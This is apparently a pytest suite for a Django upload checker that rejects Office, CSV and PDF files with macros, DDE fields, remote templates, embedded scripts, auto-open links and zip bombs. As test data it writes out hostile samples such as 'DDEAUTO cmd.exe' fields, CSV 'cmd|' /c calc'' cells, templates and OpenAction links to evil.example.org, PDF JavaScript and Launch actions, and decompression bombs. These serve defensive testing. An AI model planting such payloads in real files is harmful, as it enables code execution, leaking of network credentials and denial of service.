"""Documents that do or fetch something once they are opened are not taken, however they hide it."""

import io
import time
import tracemalloc
import zipfile
import zlib
from contextlib import suppress

import pytest
import typst
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from docx import Document
from openpyxl import Workbook

from base.active_content import is_pdf, refuse_active_parts
from base.uploads import check_upload

pytestmark = pytest.mark.once
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"


def named(name: str) -> bytes:
    """A folder of an OLE file, whose name fills 64 bytes."""
    return name.encode("utf-16-le").ljust(64, b"\0")


def word() -> bytes:
    """A real Word file."""
    kept = io.BytesIO()
    Document().save(kept)
    return kept.getvalue()


def with_parts(content: bytes, parts: dict[str, bytes | str]) -> bytes:
    found = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(found, "w") as new:
        for info in old.infolist():
            if info.filename not in parts:
                new.writestr(info, old.read(info))
        for name, part in parts.items():
            new.writestr(name, part)
    return found.getvalue()


def typed(kind: str) -> str:
    return f'<Types xmlns="{TYPES}"><Override PartName="/word/a.bin" ContentType="{kind}"/></Types>'


def relation(kind: str, target: str, mode: str = "External") -> str:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId9" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    )


def settings_of_word(relations: str) -> bytes:
    return with_parts(word(), {"word/_rels/settings.xml.rels": relations})


def workbook() -> bytes:
    kept = io.BytesIO()
    Workbook().save(kept)
    return kept.getvalue()


def pdf(*objects: bytes) -> bytes:
    return b"%PDF-1.7\n" + b"\n".join(b"%d 0 obj\n%b\nendobj" % (at, one) for at, one in enumerate(objects, 1))


def packed(content: bytes, *, name: bytes = b"/ObjStm", filters: bytes = b"/FlateDecode", more: bytes = b"") -> bytes:
    data = zlib.compress(content)
    about = b"<</Type%b/N 1/First 4/Filter%b%b/Length %d>>" % (name, filters, more, len(data))
    return about + b"stream\r\n" + data + b"\nendstream"


def said_of(name: str, content: bytes) -> str:
    with pytest.raises(ValidationError) as refused:
        check_upload(SimpleUploadedFile(name, content))
    return refused.value.messages[0]


@pytest.mark.parametrize(
    "parts",
    [
        {"word/vbaProject.bin": b"x"},
        {"word/VBAPROJECT.BIN": b"x"},
        {"WORD\\VbaProject.Bin": b"x"},
        {"word/vbaData.xml": b"<x/>"},
        {"xl/macrosheets/sheet1.xml": b"<x/>"},
        {"xl/MacroSheets/intlsheet1.xml": b"<x/>"},
        {"word/activeX/activeX1.bin": b"x"},
        {"Basic/Standard/Module1.xml": b"<x/>"},
        {"[Content_Types].xml": typed("application/vnd.ms-office.vbaProject")},
        {"[Content_Types].xml": typed("application/vnd.ms-word.document.MACROENABLED.main+xml")},
        {"word/_rels/document.xml.rels": relation("vbaProject", "notes.txt", "Internal")},
        {"word/_rels/document.xml.rels": relation("xlMacrosheet", "a.xml", "Internal")},
        {"word/embeddings/oleObject1.bin": OLE + named("_VBA_PROJECT")},
        {"word/media/picture.png": OLE + named("Macros")},
        {"word/embeddings/inner.docx": with_parts(word(), {"word/vbaProject.bin": b"x"})},
        {"word/embeddings/inner.DOCM": b"\0" + with_parts(word(), {"word/vbaProject.bin": b"x"})},
        {"word/embeddings/in.docx": with_parts(word(), {"a/in.docx": with_parts(word(), {"w/VBAproject.bin": b"x"})})},
    ],
)
def test_macros_are_found_whatever_they_are_called(parts):
    assert "holds macros" in said_of("minutes.docx", with_parts(word(), parts))


def test_file_within_a_file_is_refused():
    assert "has other files in it" in said_of(
        "a.docx", with_parts(word(), {"word/x.bin": OLE + named("\x01Ole10Native")})
    )


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "https://evil.example.org/template.dotm"),
        ("attachedTemplate", "HTTP://evil.example.org/template.dotm"),
        ("attachedTemplate", r"\\evil.example.org\share\template.dotm"),
        ("attachedTemplate", "file://evil.example.org/share/template.dotm"),
        ("AttachedTemplate", "ftp://evil.example.org/a"),
        ("oleObject", "https://evil.example.org/a.html!"),
        ("attachedTemplate", "ht&#9;tps://evil.example.org/a.dotm"),
        ("attachedTemplate", "ms-word:ofe|u|https://evil.example.org/a.dotm"),
        ("image", "https://evil.example.org/who-opened-it.png"),
        ("frame", "https://evil.example.org/"),
        ("subDocument", "https://evil.example.org/a.docx"),
    ],
)
def test_template_or_part_from_elsewhere_is_refused(kind, target):
    assert "from somewhere else" in said_of("a.docx", settings_of_word(relation(kind, target)))


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "file:///C:\\Users\\ann\\Normal.dotm"),
        ("attachedTemplate", "C:\\Templates\\Council.dotx"),
        ("attachedTemplate", "of the council.dotx"),
        ("hyperlink", "https://www.gov.uk/"),
        ("image", "file:///C:\\Users\\ann\\crest.png"),
        ("image", "media/crest.png"),
    ],
)
def test_template_of_the_writer_s_own_and_links_are_taken(kind, target):
    check_upload(SimpleUploadedFile("a.docx", settings_of_word(relation(kind, target))))


W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def field(*pieces: str) -> str:
    """A part of Word's with a field whose code is cut into pieces."""
    inside = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    shown = f"{at('separate')}<w:r><w:t>x</w:t></w:r>{at('end')}"
    return f"<w:document {W}><w:p>{at('begin')}{inside}{shown}</w:p></w:document>"


def at(what: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{what}"/></w:r>'


@pytest.mark.parametrize(
    "parts",
    [
        {"word/document.xml": field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")},
        {"word/document.xml": field(" dde", "au", "to cmd")},
        {"word/header1.xml": field(" ", "&#68;<![CDATA[DE]]> cmd")},
        {"word/document.xml": field("SET a ", at("begin") + "<w:instrText>DDE cmd</w:instrText>" + at("end"))},
        {"word/other.bin": f'\ufeff <w:p {W}><w:fldSimple w:instr=" DDEAUTO cmd"/></w:p>'},
        {"word/document.xml": f"<w:p {W}>{at('begin')}<w:r><w:instrText>DDE cmd</w:instrText></w:r></w:p>"},
        {"xl/externalLinks/externalLink1.xml": "<x><ddeLink ddeService='cmd' ddeTopic='/c calc'/></x>"},
        {"xl/a.xml": f"<a>{' ' * 65_530}<x:ddeLink/></a>"},
        {"content.xml": '<table:table-cell table:formula="of:=1+dde(&quot;soffice&quot;;&quot;a&quot;)"/>'},
        {"content.xml": "<table:table-cell table:formula='of:=D&#x44;&#069; (\"soffice\")'/>"},
        {"content.xml": '<text:dde-connection-decl office:dde-application="soffice"/>'},
    ],
)
def test_fields_and_formulas_that_have_another_program_do_something_are_refused(parts):
    assert "has another program do something" in said_of("a.docx", with_parts(word(), parts))


@pytest.mark.parametrize("cell", ["=cmd|' /c calc'!A1", "\"@SUM(1)*cmd|'/c calc'!A1\"", "-2+3+cmd|' /c calc'!A1"])
def test_cell_of_a_csv_file_that_has_another_program_do_something_is_refused(cell):
    assert "has another program do something" in said_of("a.csv", f"School,Pupils\nA,{cell}\n".encode())


@pytest.mark.parametrize(
    "parts",
    [
        {"word/document.xml": field(" PAGE ", " \\\\* MERGEFORMAT")},
        {"word/document.xml": field('HYPERLINK "https://example.org/dde"')},
        {"word/document.xml": f"<w:p {W}><w:t>DDE (Dynamic Data Exchange), instrText</w:t></w:p>"},
        {"xl/worksheets/sheet1.xml": "<row><c><f>SUM(A1:B2)</f></c></row>"},
        {"content.xml": '<table:table-cell table:formula="of:=SUM([.A1])"/><text:p>DDE (x)</text:p>'},
        {"word/media/image1.png": b"\x89PNG DDE(<ddeLink"},
    ],
)
def test_fields_and_formulas_as_programs_write_them_are_taken(parts):
    check_upload(SimpleUploadedFile("a.docx", with_parts(word(), parts)))


def test_csv_file_as_programs_write_it_is_taken():
    check_upload(SimpleUploadedFile("a.csv", b"School,Change\nA | B!,-5\nLangham,+3\n-,=SUM(A1:A2)\n"))


@pytest.mark.parametrize(
    "part",
    [
        field("DDEAUTO cmd").encode("utf-16"),
        field("DDEAUTO cmd").encode("utf-16-be"),
        b'<?xml version="1.0" encoding="utf-7"?>' + field("+AEQARABF- cmd").encode(),
    ],
)
def test_part_in_letters_that_no_program_writes_is_refused(part):
    assert "cannot be looked into" in said_of("a.docx", with_parts(word(), {"word/footer.xml": part}))


def test_field_in_a_part_that_says_how_it_is_to_be_read_is_refused():
    declared = '<!DOCTYPE a [<!ENTITY e "DDEAUTO">]>' + field("&e; cmd")

    said_of("a.docx", with_parts(word(), {"word/footer.xml": declared}))


@pytest.mark.slow
@pytest.mark.parametrize(
    "content",
    [
        b"<a>" + b"<b/>" * 4_500_000 + b"instrText</a>",
        b"<a>" + b'formula="' * 3_000_000 + b"</a>",
        b"<a>" + b"formula='&#x00000" * 2_000_000,
        b"<a>" + b"<a:" * 10_000_000,
    ],
    ids=["fields", "formulas", "letters", "names"],
)
def test_part_of_nothing_but_beginnings_is_looked_into_in_seconds(content):
    packed = one_part("word/document.xml", content)
    begun = time.process_time()

    with zipfile.ZipFile(io.BytesIO(packed)) as archive, suppress(ValidationError, zipfile.BadZipFile):
        refuse_active_parts(archive)
    assert time.process_time() - begun < 20  # usually 2, six times that while coverage is measured


@pytest.mark.parametrize("mode", ["Internal", "External"])
def test_what_word_takes_into_a_document_as_it_opens_is_refused(mode):
    parts = {"word/_rels/document.xml.rels": relation("aFChunk", "a.xml", mode), "word/a.xml": b"<script>"}

    assert "cannot be looked into" in said_of("a.docx", with_parts(word(), parts))


def test_documents_with_a_chart_s_workbook_and_pictures_are_taken():
    parts = {"word/embeddings/Microsoft_Excel_Sheet.xlsx": workbook(), "word/media/image1.png": b"\x89PNG"}

    check_upload(SimpleUploadedFile("a.docx", with_parts(word(), parts)))
    check_upload(SimpleUploadedFile("a.xlsx", workbook()))


@pytest.mark.parametrize(
    "content",
    [
        pdf(b"<</S/JavaScript/JS(app.alert(1))>>"),
        pdf(b"<</S/J#61vaScript/JS(app.alert(1))>>"),
        pdf(b"<</S /#4aava#53cript /JS 3 0 R>>"),
        pdf(b"<</Names<</JavaScript 3 0 R>>>>"),
        pdf(b"<</S/Launch/F(cmd.exe)>>"),
        pdf(b"<</Subtype/RichMedia>>"),
        pdf(packed(b"1 0 <</S/JavaScript/JS(x)>>")),
        pdf(packed(b"1 0 <</S/Launch/F(x)>>", name=b"/Obj#53tm")),
        pdf(packed(b"1 0 <<>>"), packed(b"1 0 <</S/J#61vaScript>>", filters=b"[/FlateDecode]")),
        pdf(packed(b"1 0 <</S/JavaScript>>", name=b" 2 0 R"), b"/ObjStm"),
        pdf(packed(b"1 0 <</S/JavaScript>>", name=b"/X").replace(b"/N", b"/#4e").replace(b"/First", b"/F#69rst")),
        pdf(b"<</AcroForm<</XFA 3 0 R>>>>"),
        pdf(b"<</AcroForm<</X#46A [(form) 3 0 R]>>>>"),
    ],
)
def test_pdf_with_a_script_or_program_is_refused_however_it_is_packed(content):
    assert "runs a script or a program" in said_of("a.pdf", content)


@pytest.mark.parametrize(
    "content",
    [
        pdf(b"<</Type/EmbeddedFile>>"),
        pdf(packed(b"<</EmbeddedFiles 3 0 R>>")),
        pdf(b"<</Type/Filespec/F(a.exe)/EF<</F 3 0 R>>>>"),
    ],
)
def test_pdf_with_other_files_is_refused(content):
    assert "has other files in it" in said_of("a.pdf", content)


@pytest.mark.parametrize(
    "content",
    [
        pdf(packed(b"1 0 <<>>").replace(b"x\x9c", b"\x01\x02")),
        pdf(packed(b"1 0 <<>>", filters=b"[/ASCII85Decode/FlateDecode]").replace(b"x\x9c", b"<~")),
        pdf(packed(b"1 0 <<>>", more=b"/DecodeParms<</Predictor 12>>")),
        pdf(packed(b"1 0 <<>>", more=b"/D#65codeParms<</Predictor 12>>")),
        pdf(packed(b"1 0 <<>>", more=b"/DP<</Predictor 12>>")),
        pdf(b"<</Type/ObjStm/N 1/First 4/F#69lter[/ASCIIHexDecode/FlateDecode]>>stream\n789c4b\nendstream"),
        pdf(packed(b"3c3c2f53", filters=b"[/FlateDecode/ASCIIHexDecode]")),
        pdf(packed(b"1 0 <<>>", filters=b" 9 0 R")),
        pdf(packed(b"1 0 <<>>", filters=b"/FlateDecode/Filter/FlateDecode")),
        pdf(b"<</Encrypt 9 0 R>>", b"<</Type/ObjStm/N 1/First 4>>stream\n\x01\x02\nendstream"),
    ],
)
def test_pdf_that_cannot_be_looked_into_is_refused(content):
    assert "cannot be looked into" in said_of("a.pdf", content)


@pytest.mark.parametrize("before", [b"/X(stream\n)", b"%stream\n", b"/X(endobj)", b"%endobj\n", b"/obj 1", b"/obj<<>>"])
@pytest.mark.parametrize("name", [b"/ObjStm", b"/X"])
def test_what_stands_in_a_dictionary_hides_no_stream_of_objects(before, name):
    hidden = packed(b"1 0 <</S/JavaScript>>", name=name).replace(b"<<", b"<<" + before + b"/N 1/First 4", 1)
    hidden = hidden.replace(b"/N 1/First 4/F", b"/F")

    said_of("a.pdf", pdf(hidden))


def test_what_follows_the_word_stream_hides_no_stream_of_objects():
    hidden = packed(b"1 0 <</S/JavaScript>>").replace(b"stream\r\n", b"stream %x\n", 1)

    said_of("a.pdf", pdf(hidden))


def test_pdf_with_an_outline_and_a_form_is_taken():
    outline = b"<</Title(Item \\(1\\) of (many))/Parent 3 0 R/First 5 0 R/Last 9 0 R/Count 2>>"
    profile = b"<</N 3/Length 4>>stream\n\x01\x02\x03\x04\nendstream"

    check_upload(SimpleUploadedFile("a.pdf", pdf(outline, profile, b"<</AcroForm<</Fields[]>>>>", packed(b"1 0 <<>>"))))


@pytest.mark.parametrize(
    "content",
    [
        pdf(b"<</A<</S/GoToR/F(other.pdf)/D[0/Fit]>>>>"),
        pdf(b"<</A<</S/GoTo#45/T<<>>>>>>"),
        pdf(packed(b"1 0 <</S/GoToR/F(\\\\\\\\evil\\\\a.pdf)>>")),
        pdf(b"<</S/URI/URI(file://evil.example.org/share/a.pdf)>>"),
        pdf(b"<</S/URI/URI(\\\\\\\\evil\\\\share)>>"),
        pdf(b"<</S/URI/URI (file:///\\\\\\\\evil\\\\share)>>"),
        pdf(b"<</S/URI/#55RI%x\n(java\\163cript:alert\\(1\\))>>"),
        pdf(b"<</S/URI/URI <6a 61766173 63726970743a31>>>"),
        pdf(b"<</S/URI/URI <feff005c005c006500760069006c>>>"),
        pdf(b"<</S/URI/URI(ms-word:ofe|u|https://evil.example.org/a.dotm)>>"),
        pdf(packed(b"1 0 <</S/URI/URI(SMB://evil/a)>>")),
    ],
)
def test_pdf_with_a_link_to_a_file_elsewhere_or_a_program_is_refused(content):
    assert "has a link to a file on somebody’s computer or network" in said_of("a.pdf", content)


@pytest.mark.parametrize(
    "content",
    [
        pdf(b"<</OpenAction<</S/URI/URI(https://evil.example.org/)>>>>"),
        pdf(b"<</OpenAction<</X(>>)/S/URI/URI(https://evil.example.org/)>>>>"),
        pdf(b"<</Open#41ction 2 0 R>>", b"<</X(endobj)/S/URI/URI(https://evil.example.org/)>>"),
        pdf(
            b"<</OpenAction 77 0 R>>",
            packed(b"9 0 77 4 <<>><</S/URI/URI(https://a.org)>>", more=b"").replace(b"/First 4", b"/First 9"),
        ),
        pdf(b"<</OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 9 0 R>>>>"),
        pdf(b"<</OpenAction<</S/SubmitForm/F(https://evil.example.org/)>>>>"),
        pdf(b"<</Type/Page/AA<</O 9 0 R>>>>"),
        pdf(b"<</Type/Page/AA 9 0 R>>"),
    ],
)
def test_pdf_that_opens_an_address_by_itself_is_refused(content):
    assert "by itself" in said_of("a.pdf", content)


@pytest.mark.parametrize(
    "content",
    [
        pdf(b"<</A<</S/URI/URI(https://www.essex.gov.uk/a\\(b\\)?c=//d)>>>>"),
        pdf(b"<</A<</S/URI/URI(mailto:board@example.org)>>>>", b"<</URI(www.gov.uk)>>", b"<</URI(a/b.pdf)>>"),
        pdf(b"<</A<</S/URI/URI(file:///C:/Users/ann/budget.xlsx)>>>>"),
        pdf(b"<</OpenAction[3 0 R/FitH null]>>"),
        pdf(b"<</OpenAction<</S/GoTo/D[3 0 R/Fit]>>/URI<</Base(https://www.gov.uk/)>>>>"),
        pdf(b"<</OpenAction 2 0 R>>", b"<</S/GoTo/D[3 0 R/XYZ 0 0 1]>>", b"<</A<</S/URI/URI(https://a.org)>>>>"),
        pdf(b"<</Title(Next)/Next 5 0 R>>", b"<</S/Named/N/NextPage>>"),
    ],
)
def test_pdf_with_plain_links_and_a_page_to_begin_with_is_taken(content):
    check_upload(SimpleUploadedFile("a.pdf", content))


@pytest.mark.parametrize(
    "one", [b"/URI%", b"/URI(", b"/OpenAction<<", b"/AA %x\n", b"/URI ", b"/URI<00", b"1 0 obj", b"(" * 50]
)
def test_pdf_of_nothing_but_beginnings_of_links_is_looked_into_at_once(one):
    begun = time.process_time()

    with suppress(ValidationError):
        is_pdf(io.BytesIO(b"%PDF-1.4\n/OpenAction 1 0 R\n" + one * (3_000_000 // len(one))))
    assert time.process_time() - begun < 2


def test_dictionary_that_is_never_over_is_refused_at_once():
    begun = time.process_time()

    said_of("a.pdf", b"%PDF-1.7\n" + b"obj<</First 1>>" * 300_000 + b"endobj")
    assert time.process_time() - begun < 2  # 0.2 s measured


@pytest.mark.slow
def test_pdf_that_unpacks_to_more_than_any_memory_holds_is_refused():
    bomb = b"<</Type/ObjStm/Filter/FlateDecode>>stream\n" + zlib.compress(b" " * 70_000_000)

    assert "too large to be looked into" in said_of("a.pdf", pdf(bomb))


@pytest.mark.parametrize("standard", ["1.7", "ua-1"])
def test_pdf_as_programs_write_it_is_taken(standard):
    source = (
        b'#set document(title: "x", date: none)\n#set text(lang: "en")\n= JavaScript\nLaunch #link("https://a.org")[it]'
    )
    content = typst.compile(source, format="pdf", pdf_standards=standard)

    check_upload(SimpleUploadedFile("a.pdf", content))


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.pdf", b"<html><script>alert(1)</script>%PDF-1.7"),
        ("a.pdf", b"<svg onload='x'/>\n%PDF-1.4"),
        ("a.csv", b"\xef\xbb\xbf <!DOCTYPE html><script>1</script>"),
        ("a.csv", b"<SVG xmlns='http://www.w3.org/2000/svg' onload='x'/>"),
        ("a.csv", b"<?xml version='1.0'?><svg/>"),
        ("a.docx", b"<html><script>1</script></html>" + word()),
        ("a.docx", with_parts(word(), {"[Content_Types].xml": b"<!DOCTYPE a [<!ENTITY b 'c'>]><Types>&b;</Types>"})),
        ("a.docx", with_parts(word(), {"word/_rels/document.xml.rels": b"not xml"})),
    ],
)
def test_page_or_picture_under_another_name_is_refused(name, content):
    assert "whatever its name says" in said_of(name, content)


def test_streams_that_end_in_a_fault_share_what_may_be_looked_into():
    faulty = b"1 0 obj<</Type/ObjStm>>stream\n" + zlib.compress(b" " * 3_000_000, 9)[:-4] + b"faulty" * 20
    begun = time.process_time()

    assert "too large to be looked into" in said_of("a.pdf", b"%PDF-1.7\n" + faulty * 400)
    assert time.process_time() - begun < 2  # 0.2 s measured; each was unpacked and not counted before


def test_script_before_the_fault_of_a_stream_is_found():
    faulty = zlib.compress(b"<</S/JavaScript>>" + bytes(100_000))[:-4] + b"faulty"

    assert "runs a script" in said_of("a.pdf", pdf(b"<</Type/ObjStm>>stream\n" + faulty))


@pytest.mark.slow
@pytest.mark.parametrize("one", [b"obj /ObjStm stream\n", b"/ObjStm stream\n"])
def test_pdf_of_nothing_but_beginnings_of_streams_is_refused_at_once(one):
    with pytest.raises(ValidationError):
        is_pdf(io.BytesIO(b"%PDF-1.4\n" + one * 200_000))


def test_pdf_that_names_a_million_streams_and_has_none_is_looked_into_at_once():
    begun = time.process_time()

    assert is_pdf(io.BytesIO(b"%PDF-1.4\n" + b"/ObjStm " * 1_000_000))
    assert time.process_time() - begun < 2  # 0.2 s measured; 40 s where each name looked for a stream near by


def test_script_is_found_however_far_from_its_name_a_stream_begins():
    hidden = packed(b"<</S/JavaScript>>", more=b" " * 3_000)

    assert "runs a script" in said_of("a.pdf", pdf(hidden))


@pytest.mark.parametrize("ends", [b"\r", b" \n", b"\n"])
def test_script_is_found_however_the_line_of_a_stream_ends(ends):
    hidden = packed(b"<</S/JavaScript>>").replace(b"stream\r\n", b"stream" + ends, 1)

    assert "runs a script" in said_of("a.pdf", pdf(hidden))


def nested(part: bytes, times: int) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        for at in range(times):
            archive.writestr(f"{at}.docx", part)
    return kept.getvalue()


def one_part(name: str, content: bytes) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return kept.getvalue()


@pytest.mark.slow
@pytest.mark.parametrize(
    "part",
    [one_part("a.bin", OLE + b"\0" * 11_000_000), one_part("_rels/a.xml.rels", b"<a>" + b"<b/>" * 240_000 + b"</a>")],
    ids=["parts", "lists"],
)
def test_documents_in_a_document_share_what_may_be_looked_into(part):
    with zipfile.ZipFile(io.BytesIO(nested(part, 3))) as archive:
        refuse_active_parts(archive)
    with zipfile.ZipFile(io.BytesIO(nested(part, 6))) as archive, pytest.raises(ValidationError):
        refuse_active_parts(archive)


def test_documents_in_a_document_share_how_many_parts_are_opened():
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        for at in range(2_000):
            archive.writestr(f"{at}.xml", b"x")
    begun = time.process_time()

    with zipfile.ZipFile(io.BytesIO(nested(kept.getvalue(), 40))) as archive, pytest.raises(ValidationError):
        refuse_active_parts(archive)
    assert time.process_time() - begun < 5  # 0.6 s measured; 3.5 MB took 38 s before


def test_document_whose_list_of_parts_unpacks_to_megabytes_is_refused_before_it_is_read():
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types>" + "<a/>" * 1_100_000 + "</Types>")
        archive.writestr("word/document.xml", "<document/>")

    with zipfile.ZipFile(packed) as archive, pytest.raises(ValidationError):
        refuse_active_parts(archive)


@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
@pytest.mark.parametrize("depth", [0, 1])
def test_document_that_is_packed_in_another_way_is_refused_before_it_is_unpacked(method, depth):
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", method) as archive:
        archive.writestr("word/document.xml", b" " * 30_000_000)
    content = kept.getvalue()
    if depth:
        content = with_parts(word(), {"word/embeddings/in.docx": content})
    tracemalloc.start()

    said = said_of("a.docx", content)

    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert "packed in a way that cannot be looked into" in said
    assert peak < 10_000_000  # bytes


def zip_of_empty_parts(count: int) -> bytes:
    """A zip file of as many parts, each of which stands in its list and is the same one."""
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w") as archive:
        archive.writestr("a", b"")
        archive.filelist *= count
    return kept.getvalue()


@pytest.mark.parametrize("name", ["minutes.docx", "accounts.xlsx", "slides.odt"])
def test_file_of_hundreds_of_thousands_of_parts_is_refused_before_they_are_listed(name):
    content = zip_of_empty_parts(200_000)
    begun = time.process_time()

    assert "too large to be looked into" in said_of(name, content)

    assert time.process_time() - begun < 0.5  # 0.1 s measured; 2 s where they are listed


@pytest.mark.parametrize(("megabytes", "is_taken"), [(900, True), (1_100, False)])
def test_document_whose_parts_say_that_they_unpack_to_more_than_any_memory_is_refused(megabytes, is_taken):
    content = with_parts(word(), {"word/media/image1.bin": b"nothing that is looked into"})
    at = content.rindex(b"PK\x01\x02", 0, content.rindex(b"word/media/image1.bin")) + 24  # where the list says the size
    content = content[:at] + (megabytes * 1_000_000).to_bytes(4, "little") + content[at + 4 :]

    if is_taken:
        check_upload(SimpleUploadedFile("minutes.docx", content))
    else:
        assert "too large to be looked into" in said_of("minutes.docx", content)


def test_such_a_file_within_another_is_refused_before_its_parts_are_listed():
    content = with_parts(word(), {"word/embeddings/inner.docx": zip_of_empty_parts(200_000)})
    packed_again = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(packed_again, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            new.writestr(info.filename, old.read(info))
    begun = time.process_time()

    assert "too large to be looked into" in said_of("minutes.docx", packed_again.getvalue())

    assert time.process_time() - begun < 0.5
